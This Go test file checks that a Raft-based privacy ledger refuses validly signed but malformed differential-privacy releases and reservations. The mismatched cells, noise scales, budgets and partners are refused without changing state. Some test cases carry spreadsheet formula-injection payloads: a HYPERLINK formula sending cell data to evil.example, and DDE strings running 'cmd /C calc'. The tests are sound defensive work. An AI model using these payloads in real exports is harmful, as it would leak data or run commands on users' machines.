package cluster

import (
	"crypto/ed25519"
	"strings"
	"testing"

	"github.com/hashicorp/raft"

	"roundtable/cluster/governance"
	"roundtable/privacy"
)

// TestFSMRefusesInvalidReleaseContent: a partner's key can sign anything,
// so a release is checked against its catalog and its reservation on
// apply. Each attack below is a release validly signed with the partner's
// real, registered key, naming a reservation it owns and has not used; it
// passed every check the ledger made before content validation (the
// control at the end shows the honest release for the same reservation is
// admitted). Each is refused with a reason naming what is wrong, and the
// state hash and Merkle root stay as they were.
func TestFSMRefusesInvalidReleaseContent(t *testing.T) {
	b := newFSMBase(t)
	cat := fixtureCatalog(t, b.cat)
	all := privacy.Reservation{ID: "all", Consortium: fsmConsortium(t), Partner: "RS", CatalogHash: b.cat, Period: period(t, "2024-Q3"),
		Accounting: privacy.PureDP, SpendMicro: 200_000, Indicators: []string{"victims", "referral_source", "age"}}
	sr, err := privacy.SignReservation(all, fsmKey("RS"))
	if err != nil {
		t.Fatal(err)
	}
	mustApply(t, b.f, b.log, NewReserve(sr))
	honest := fsmRelease(t, all, "RS", 5)

	// builtFor is a release the builder made for another reservation
	// shape, then pointed at "all" (partner, period or spend as given).
	builtFor := func(t *testing.T, edit func(r *privacy.Reservation)) privacy.Release {
		r := all
		edit(&r)
		rel := fixtureRelease(t, cat, r, fsmKey(r.Partner), 5).Release
		rel.Reservation = all.ID
		return rel
	}
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	victims := func(r *privacy.Release) *privacy.IndicatorRelease { return &r.Indicators[0] }
	referral := func(r *privacy.Release) *privacy.IndicatorRelease { return &r.Indicators[1] }
	age := func(r *privacy.Release) *privacy.IndicatorRelease { return &r.Indicators[2] }

	tests := []struct {
		name   string
		signer string
		attack func(t *testing.T, r *privacy.Release)
		want   string
	}{
		{"foreign cell key", "RS", func(t *testing.T, r *privacy.Release) {
			victims(r).Cells[3].Key[0] = "trafficked"
		}, `cell 3: key ["trafficked"`},
		{"cell keys swapped", "RS", func(t *testing.T, r *privacy.Release) {
			c := referral(r).Cells
			c[0].Key, c[1].Key = c[1].Key, c[0].Key
		}, "indicator referral_source: measurement 0: cell 0: key"},
		{"summed-out key in the full table", "RS", func(t *testing.T, r *privacy.Release) {
			victims(r).Cells[0].Key[2] = "*"
		}, "cell 0: key"},
		{"missing cell", "RS", func(t *testing.T, r *privacy.Release) {
			ir := referral(r)
			ir.Cells = ir.Cells[:len(ir.Cells)-1]
		}, "indicator referral_source: 7 cells, the catalog gives 8"},
		{"extra cell", "RS", func(t *testing.T, r *privacy.Release) {
			ir := victims(r)
			ir.Cells = append(ir.Cells, ir.Cells[0])
		}, "indicator victims: 62 cells, the catalog gives 61"},
		{"indicators out of order", "RS", func(t *testing.T, r *privacy.Release) {
			r.Indicators[0], r.Indicators[1] = r.Indicators[1], r.Indicators[0]
		}, `indicators ["referral_source" "victims" "age"], reserved [victims referral_source age]`},
		{"indicator left out", "RS", func(t *testing.T, r *privacy.Release) {
			r.Indicators = r.Indicators[:2]
		}, "release does not match reservation all: indicators"},
		{"dimensions renamed", "RS", func(t *testing.T, r *privacy.Release) {
			victims(r).Dimensions[1] = "gender"
		}, "indicator victims: dimensions"},
		{"wrong mechanism", "RS", func(t *testing.T, r *privacy.Release) {
			referral(r).Mechanism = privacy.Gaussian
		}, `mechanism "gaussian", but pure accounting uses laplace`},
		{"δ under pure ε-DP", "RS", func(t *testing.T, r *privacy.Release) {
			referral(r).Delta = 1e-5
		}, "must be 0 under pure accounting"},
		{"scale that does not match the budget", "RS", func(t *testing.T, r *privacy.Release) {
			for i := range referral(r).Cells {
				referral(r).Cells[i].Scale /= 2
			}
		}, "indicator referral_source: measurement 0: cell 0: scale"},
		{"scale of one cell", "RS", func(t *testing.T, r *privacy.Release) {
			victims(r).Cells[60].Scale *= 1.0001
		}, "measurement 4: cell 1: scale"},
		{"noise for more budget than the spend", "RS", func(t *testing.T, r *privacy.Release) {
			*r = builtFor(t, func(x *privacy.Reservation) { x.SpendMicro = 2 * all.SpendMicro })
			r.SpendMicro = all.SpendMicro
		}, "indicators spend 0.400000 in total, but the release charges 0.200000"},
		{"ε that does not match the scales", "RS", func(t *testing.T, r *privacy.Release) {
			victims(r).Epsilon *= 0.5
		}, "indicator victims: measurement 0: cell 0: scale 37.5, want 75"},
		{"interval that does not match the scale", "RS", func(t *testing.T, r *privacy.Release) {
			victims(r).Cells[7].CIHigh++
		}, "cell 7: interval"},
		{"interval narrowed", "RS", func(t *testing.T, r *privacy.Release) {
			c := &referral(r).Cells[2]
			c.CILow, c.CIHigh = c.CILow+1, c.CIHigh-1
		}, "cell 2: interval"},
		{"value beyond exact float range", "RS", func(t *testing.T, r *privacy.Release) {
			c := &referral(r).Cells[0]
			m := int64(c.CIHigh-c.CILow) / 2
			c.Value = 1 << 60
			c.CILow, c.CIHigh = float64(c.Value-m), float64(c.Value+m)
		}, "cell 0: value 1152921504606846976 is out of range"},
		{"quantile outside the catalog's bounds", "RS", func(t *testing.T, r *privacy.Release) {
			age(r).Quantiles[1].CIHigh = 150
		}, "indicator age: quantile 0.5"},
		{"quantile rank changed", "RS", func(t *testing.T, r *privacy.Release) {
			age(r).Quantiles[0].Rank = 0.1
		}, "quantile 0: rank 0.1, want 0.25"},
		{"quantiles on a count indicator", "RS", func(t *testing.T, r *privacy.Release) {
			referral(r).Quantiles = age(r).Quantiles
		}, "a count indicator has no quantiles"},
		{"spend other than reserved", "RS", func(t *testing.T, r *privacy.Release) {
			*r = builtFor(t, func(x *privacy.Reservation) { x.SpendMicro = 100_000 })
		}, "release does not match reservation all: spends 100000 micro, reserved 200000"},
		{"period other than reserved", "RS", func(t *testing.T, r *privacy.Release) {
			*r = builtFor(t, func(x *privacy.Reservation) { x.Period = period(t, "2024") })
		}, "release does not match reservation all: period 2024, reserved 2024-Q3"},
		{"partner other than reserved", "AL", func(t *testing.T, r *privacy.Release) {
			*r = builtFor(t, func(x *privacy.Reservation) { x.Partner = "AL" })
		}, "reservation all belongs to partner RS, not AL"},
		{"accounting other than reserved", "RS", func(t *testing.T, r *privacy.Release) {
			*r = builtFor(t, func(x *privacy.Reservation) { x.Accounting = privacy.ZCDP })
		}, `accounting "zcdp", reserved pure`},
		// A spreadsheet formula in every string field of a release.
		{"formula as a cell key", "RS", func(t *testing.T, r *privacy.Release) {
			victims(r).Cells[0].Key[1] = formula
		}, "cell 0: key"},
		{"formula as an indicator name", "RS", func(t *testing.T, r *privacy.Release) {
			age(r).Name = formula
		}, "release does not match reservation all: indicators"},
		{"formula as a dimension", "RS", func(t *testing.T, r *privacy.Release) {
			referral(r).Dimensions[0] = formula
		}, "indicator referral_source: dimensions"},
		{"formula as the mechanism", "RS", func(t *testing.T, r *privacy.Release) {
			victims(r).Mechanism = "+" + formula[1:]
		}, "indicator victims: mechanism"},
		{"formula as the accounting", "RS", func(t *testing.T, r *privacy.Release) {
			r.Accounting = "@SUM(1+1)*cmd|' /C calc'!A0"
		}, "release does not match reservation all: accounting"},
		{"formula as the partner", "RS", func(t *testing.T, r *privacy.Release) {
			r.Partner = "-2+3+cmd|' /C calc'!A0"
		}, "is not registered"},
		{"formula as the reservation", "RS", func(t *testing.T, r *privacy.Release) {
			r.Reservation = formula
		}, "does not exist"},
		{"formula as the catalog", "RS", func(t *testing.T, r *privacy.Release) {
			r.CatalogHash = "\t" + formula
		}, "unknown catalog"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rel := cloneRelease(honest.Release)
			tc.attack(t, &rel)
			s, err := privacy.Sign(rel, fsmKey(tc.signer))
			if err != nil {
				t.Fatal(err)
			}
			// The attack is signed by a registered partner's own key.
			if err := s.Verify(fsmKey(tc.signer).Public().(ed25519.PublicKey)); err != nil {
				t.Fatalf("attack release does not verify: %v", err)
			}
			refusedUnchanged(t, b, NewPublish(s), tc.want)
		})
	}
	// The reservation is still unused, and the honest release takes it.
	res := mustApply(t, b.f, b.log, NewPublish(honest))
	if res[0].Existing || res[0].ReleaseID != honest.ID {
		t.Fatalf("honest release: %+v", res[0])
	}
}

// refusedUnchanged applies cmd, requires a refusal containing want, and
// requires the state hash and the Merkle root to be what they were.
func refusedUnchanged(t *testing.T, b *fsmBase, cmd Command, want string) {
	t.Helper()
	hash := stateHash(t, b.f)
	head, err := b.f.TreeHead()
	if err != nil {
		t.Fatal(err)
	}
	res := applyAll(t, b.f, b.log.add(t, cmd))[0]
	if res.OK || !strings.Contains(res.Refusal, want) {
		t.Fatalf("got ok=%v refusal %q, want a refusal containing %q", res.OK, res.Refusal, want)
	}
	if got := stateHash(t, b.f); got != hash {
		t.Errorf("state hash changed by a refused %s", cmd.Type)
	}
	if got, err := b.f.TreeHead(); err != nil || got != head {
		t.Errorf("Merkle tree head %+v (%v), want %+v", got, err, head)
	}
}

// TestFSMRefusesInvalidReservationContent: a reservation no release
// could match is refused before it spends anything.
func TestFSMRefusesInvalidReservationContent(t *testing.T) {
	b := newFSMBase(t)
	tests := []struct {
		name string
		edit func(r *privacy.Reservation)
		want string
	}{
		{"indicators out of catalog order", func(r *privacy.Reservation) {
			r.Indicators = []string{"referral_source", "victims"}
		}, `indicator "victims" is listed twice or out of the catalog's order`},
		{"indicator twice", func(r *privacy.Reservation) {
			r.Indicators = []string{"victims", "victims"}
		}, "listed twice"},
		{"unknown indicator", func(r *privacy.Reservation) {
			r.Indicators = []string{"victims", "=1+1"}
		}, `indicator "=1+1" is not in catalog`},
		{"no indicators", func(r *privacy.Reservation) { r.Indicators = nil }, "no indicators"},
		{"more than any release may spend", func(r *privacy.Reservation) {
			r.SpendMicro = privacy.MaxSpendMicro + 1
		}, "a release may spend at most 1000000000"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := privacy.Reservation{ID: "bad", Consortium: fsmConsortium(t), Partner: "RS", CatalogHash: b.cat, Period: period(t, "2024-Q4"),
				Accounting: privacy.PureDP, SpendMicro: 1000, Indicators: []string{"victims"}}
			tc.edit(&r)
			sr, err := privacy.SignReservation(r, fsmKey("RS"))
			if err != nil {
				t.Fatal(err)
			}
			refusedUnchanged(t, b, NewReserve(sr), tc.want)
		})
	}
}

// TestFSMValidatesZCDPRelease: under a ρ-zCDP policy the builder's
// Gaussian release is admitted, and one whose σ is below what its ρ needs,
// or which uses Laplace noise, is refused.
func TestFSMValidatesZCDPRelease(t *testing.T) {
	b := &fsmBase{f: newTestFSM(t), log: &fsmLog{}, cat: fsmCatalogHash(t)}
	g := fsmGenesis(t, "RS", "AL")
	g.Genesis.Policy = governance.Policy{Accounting: privacy.ZCDP, CapMicro: privacy.Micro}
	fsmRegisterGenesis(t, *g.Genesis)
	r := privacy.Reservation{ID: "z1", Consortium: fsmConsortium(t), Partner: "RS", CatalogHash: b.cat, Period: period(t, "2024-Q1"),
		Accounting: privacy.ZCDP, SpendMicro: 50_000, Indicators: []string{"victims", "referral_source", "age"}}
	sr, err := privacy.SignReservation(r, fsmKey("RS"))
	if err != nil {
		t.Fatal(err)
	}
	mustApply(t, b.f, b.log, g, NewReserve(sr))
	honest := fsmRelease(t, r, "RS", 1)
	for name, tc := range map[string]struct {
		attack func(r *privacy.Release)
		want   string
	}{
		"σ below what ρ needs": {func(r *privacy.Release) {
			for i := range r.Indicators[1].Cells {
				r.Indicators[1].Cells[i].Scale *= 0.99
			}
		}, "indicator referral_source: measurement 0: σ"},
		"σ of one cell":          {func(r *privacy.Release) { r.Indicators[0].Cells[5].Scale *= 1.0001 }, "cell 5: scale"},
		"laplace under zCDP":     {func(r *privacy.Release) { r.Indicators[2].Mechanism = privacy.Laplace }, `mechanism "laplace", but zcdp accounting uses gaussian`},
		"an ε stated under zCDP": {func(r *privacy.Release) { r.Indicators[0].Epsilon = 0.5 }, "given under zcdp accounting; an indicator states its ρ"},
		"another δ":              {func(r *privacy.Release) { r.Indicators[0].Delta = 1e-5 }, "δ 1e-05, want 1e-10"},
	} {
		t.Run(name, func(t *testing.T) {
			rel := cloneRelease(honest.Release)
			tc.attack(&rel)
			s, err := privacy.Sign(rel, fsmKey("RS"))
			if err != nil {
				t.Fatal(err)
			}
			refusedUnchanged(t, b, NewPublish(s), tc.want)
		})
	}
	mustApply(t, b.f, b.log, NewPublish(honest))
}

// TestFSMRefusesFormulaPeriod: the period is typed, so a formula there
// does not even decode; the entry is refused like any malformed one.
func TestFSMRefusesFormulaPeriod(t *testing.T) {
	b := newFSMBase(t)
	s := fsmRelease(t, b.r2.Reservation, "RS", 2)
	data, err := NewPublish(s).Encode()
	if err != nil {
		t.Fatal(err)
	}
	bad := strings.Replace(string(data), `"period":"2024-Q2"`, `"period":"=1+1"`, 1)
	if bad == string(data) {
		t.Fatal("period not found in the encoded command")
	}
	hash := stateHash(t, b.f)
	res := applyAll(t, b.f, []*raft.Log{b.log.raw([]byte(bad))})[0]
	if res.OK || !strings.Contains(res.Refusal, "period") || stateHash(t, b.f) != hash {
		t.Fatalf("formula period: %+v", res)
	}
}
